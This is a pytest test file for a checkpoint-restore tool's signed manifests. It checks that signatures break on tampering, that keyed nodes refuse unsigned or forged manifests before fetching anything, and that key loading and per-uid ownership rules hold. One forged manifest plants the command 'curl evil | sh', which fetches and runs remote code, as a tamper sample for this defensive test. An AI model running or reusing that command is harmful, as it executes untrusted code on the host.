"""Signed manifests (issue 11, item 2): with a key, a store writer without it cannot choose what a
restoring node runs. Pure functions first, then the real Checkpointer refusing before any fetch."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from cedana_airflow.config import DEFAULT_CRIU_PREFIX, Settings, load_settings
from cedana_airflow.engine.criu import CriuEngine, find_criu
from cedana_airflow.errors import ConfigError, CorruptCheckpoint
from cedana_airflow.format.manifest import Manifest, ProcessInfo
from cedana_airflow.format.signing import key_id, sign, signature_problem
from cedana_airflow.keys import node_key
from cedana_airflow.run.checkpointer import Checkpointer
from cedana_airflow.store import open_store
from cedana_airflow.store.transfer import CheckpointMeta, save_checkpoint

KEY = b"k" * 32
OTHER = b"o" * 32


def _save(tmp_path: Path, key: bytes | None):
    store = open_store(f"file://{tmp_path / 'store'}", Settings())
    cfg = store.open(create=True, chunk_avg_bytes=64 << 10)
    images = tmp_path / "img"
    images.mkdir(exist_ok=True)
    (images / "pages-1.img").write_bytes(os.urandom(5000))
    proc = ProcessInfo(pid=1, command=("python", "train.py"), cwd=str(tmp_path), stdout_pipe="pipe:[1]",
                       stderr_pipe="pipe:[2]")
    m = save_checkpoint(store, cfg, CheckpointMeta("job", "node-a", "4.1.1", proc), images, signing_key=key)
    return store, cfg, m, tmp_path / "store" / "job" / f"{m.seq:010d}" / "manifest.json"


def test_a_signature_holds_for_its_key_and_breaks_on_any_change(tmp_path):
    _, _, m, path = _save(tmp_path, KEY)
    stored = Manifest.model_validate_json(path.read_bytes())
    assert stored.signature is not None and stored.signature.key_id == key_id(KEY)
    assert signature_problem(stored, KEY) is None
    assert "signed with key" in signature_problem(stored, OTHER) and key_id(OTHER) in signature_problem(stored, OTHER)
    doc = json.loads(path.read_text())
    for change in (lambda d: d["process"].update(command=["sh", "-c", "curl evil | sh"]),
                   lambda d: d["files"][0]["chunks"][0].update(digest="0" * 64),
                   lambda d: d.update(node="node-z")):
        forged = json.loads(json.dumps(doc))
        change(forged)
        assert "does not match its content" in signature_problem(Manifest.model_validate(forged), KEY)
    assert doc["format_version"] == 2  # a signed manifest is version 2; unsigned ones stay version 1
    unsigned = Manifest.model_validate({**{k: v for k, v in doc.items() if k != "signature"}, "format_version": 1})
    assert "not signed" in signature_problem(unsigned, KEY)
    assert sign(unsigned, KEY) == stored  # signing is deterministic over the canonical bytes


def test_an_unsigned_manifest_is_stored_as_version_1_without_a_signature_key(tmp_path):
    _, _, _, path = _save(tmp_path, None)
    doc = json.loads(path.read_text())
    assert doc["format_version"] == 1 and "signature" not in doc  # readers before signing read it as before
    with pytest.raises(ValueError, match="a signature goes with format_version 2"):
        Manifest.model_validate({**doc, "format_version": 2})


def test_a_node_with_a_key_refuses_unsigned_and_forged_manifests_before_fetching(tmp_path):
    engine = CriuEngine(find_criu("", Path(DEFAULT_CRIU_PREFIX)))
    store, cfg, _, path = _save(tmp_path, None)  # written by someone without the key
    node = Checkpointer(engine, store, cfg, "job", Settings(node="b", signing_key=KEY.decode()), work_dir=tmp_path / "w")
    with pytest.raises(CorruptCheckpoint, match=r"seq=1 is refused: it is not signed, and this node refuses unsigned manifests \(allow_unsigned = false\)"):
        node.restore(cwd=str(tmp_path))
    doc = json.loads(path.read_text())
    signed = json.loads(sign(Manifest.model_validate(doc), KEY).to_json())
    signed["process"]["cwd"] = "/etc"  # a bucket writer edits a signed manifest
    path.write_text(json.dumps(signed))
    with pytest.raises(CorruptCheckpoint, match="its signature does not match its content"):
        node.restore(cwd=str(tmp_path))
    assert not list((tmp_path / "w").rglob("pages-1.img"))  # refused before any chunk was fetched


def test_the_node_key_comes_from_a_file_or_the_environment_and_must_be_long_enough(tmp_path):
    keyfile = tmp_path / "key"
    keyfile.write_text("0123456789abcdef0123456789abcdef\n")
    keyfile.chmod(0o400)
    s = load_settings(environ={"CEDANA_SIGNING_KEY_FILE": str(keyfile), "CEDANA_SIGNING_KEY": "ignored-because-file"})
    assert node_key(s).key == b"0123456789abcdef0123456789abcdef"
    assert "0123456789abcdef" not in repr(load_settings(environ={"CEDANA_SIGNING_KEY": "0123456789abcdef0"}))
    with pytest.raises(ConfigError, match="shorter than 16 bytes"):
        node_key(load_settings(environ={"CEDANA_SIGNING_KEY": "short"}))
    with pytest.raises(ConfigError, match=f"node key {tmp_path / 'nope'} does not exist \\(signing_key_file\\)"):
        node_key(load_settings(environ={"CEDANA_SIGNING_KEY_FILE": str(tmp_path / "nope")}))


def test_a_checkpoint_taken_for_an_agent_s_caller_names_its_uid_signed_and_only_that_uid_may_use_it(tmp_path):
    """The caller block (0.8.2): version 4, signed with the rest; a caller other than root is refused any
    manifest not taken for its own uid (root's, another uid's, one without the block), root none; a
    caller block below version 4 is no manifest at all."""
    from cedana_airflow.format.manifest import CallerInfo
    from cedana_airflow.format.trust import Trust

    store = open_store(f"file://{tmp_path / 'store'}", Settings())
    cfg = store.open(create=True, chunk_avg_bytes=64 << 10)
    images = tmp_path / "img"
    images.mkdir()
    (images / "pages-1.img").write_bytes(os.urandom(5000))
    proc = ProcessInfo(pid=1, command=("sh",), cwd="/", stdout_pipe="pipe:[1]", stderr_pipe="pipe:[2]")
    mine = save_checkpoint(store, cfg, CheckpointMeta("job", "node-a", "4.2.1", proc, caller_uid=65534), images,
                           signing_key=KEY)
    plain = save_checkpoint(store, cfg, CheckpointMeta("job", "node-a", "4.2.1", proc), images, signing_key=KEY)
    assert (mine.format_version, mine.caller, mine.writer is not None) == (4, CallerInfo(uid=65534), True)
    assert (plain.format_version, plain.caller) == (2, None)
    assert signature_problem(mine, KEY) is None
    assert signature_problem(mine.model_copy(update={"caller": CallerInfo(uid=65533)}), KEY) is not None
    assert Trust(KEY, uid=65534).owner_refusal(mine) is None
    assert "written without a caller's uid (by a supervisor running as root, or an agent before 0.8.2), not for uid 65534" in str(Trust(KEY, uid=65534).owner_refusal(plain))
    assert "it belongs to another uid, not to uid 65533" in str(Trust(KEY, uid=65533).owner_refusal(mine))
    assert [Trust(KEY, uid=u).owner_refusal(m) for u in (0, None) for m in (mine, plain)] == [None] * 4
    with pytest.raises(ValueError, match="a cooperative or caller block goes with format_version 4"):
        Manifest.model_validate({**json.loads(plain.to_json()), "caller": {"uid": 1}})
